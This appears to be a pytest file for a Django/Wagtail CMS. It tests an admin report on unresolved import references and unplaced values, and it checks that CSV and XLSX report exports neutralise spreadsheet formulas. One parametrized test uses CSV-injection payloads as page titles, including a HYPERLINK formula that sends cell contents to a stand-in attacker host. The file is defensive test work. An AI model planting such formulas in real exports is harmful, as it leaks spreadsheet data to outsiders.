"""The report of what imports could not place, and that exports of reports hold no formulas."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from cms.models import ProjectPage, UnplacedValue, UnresolvedReference
from tests.thorough import mostly_slow

pytestmark = pytest.mark.django_db

ADDRESS = "/admin/reports/not-found-yet/"


@pytest.fixture
def imported(index):
    """Return a draft with a name that matches nothing, and a value that has no field."""
    page = ProjectPage(title="From the old site", slug="old", live=False)
    page.unresolved_references = [UnresolvedReference(field="related_activities", name="Policy platforms")]
    page.unplaced_values = [UnplacedValue(label="Reports", value="24 practices")]
    index.add_child(instance=page)
    page.save_revision()
    return page


def test_it_lists_pages_that_wait_with_a_link_to_edit_them(editor, imported, project):
    content = editor.get(ADDRESS).content.decode()
    assert reverse("wagtailadmin_pages:edit", args=[imported.pk]) in content
    assert "Policy platforms" in content
    assert "24 practices" in content
    assert project.title not in content


def test_it_says_what_the_newest_draft_says(editor, imported):
    imported.unresolved_references = []
    imported.save_revision()
    assert "Policy platforms" not in editor.get(ADDRESS).content.decode()
    imported.unplaced_values = []
    imported.save_revision()
    assert imported.title not in editor.get(ADDRESS).content.decode()


def test_it_can_be_taken_away_as_a_table(editor, imported):
    response = editor.get(ADDRESS, {"export": "csv"})
    rows = b"".join(response.streaming_content).decode().splitlines()
    assert rows[1:] == ["From the old site,Project,Policy platforms,,24 practices"]


def test_visitors_do_not_see_it(client, imported):
    assert client.get(ADDRESS).status_code == 302


def test_it_is_in_the_menu(editor):
    assert ADDRESS in editor.get(reverse("wagtailadmin_home")).content.decode()


EXPORTS = [
    "/admin/reports/quality/",
    "/admin/reports/not-found-yet/",
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
]


def cells(answer):
    content = b"".join(answer.streaming_content)
    if answer["Content-Type"] == "text/csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
    return [str(cell) for row in rows for cell in row]


@pytest.mark.parametrize(
    "title", mostly_slow(['=HYPERLINK("http://evil.example/?"&A1,"x")', "\t=1+1", "+1+1", "@SUM(1)", "-2+3"], 2)
)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_title_is_taken_for_a_formula_in_an_export_of_a_report(admin_client, imported, title, kind):
    imported.title = title
    imported.save_revision().publish()
    for address in EXPORTS:
        written = [cell for cell in cells(admin_client.get(address, {"export": kind})) if title.strip() in cell]
        assert written, address
        assert all(cell.startswith("'") for cell in written), address
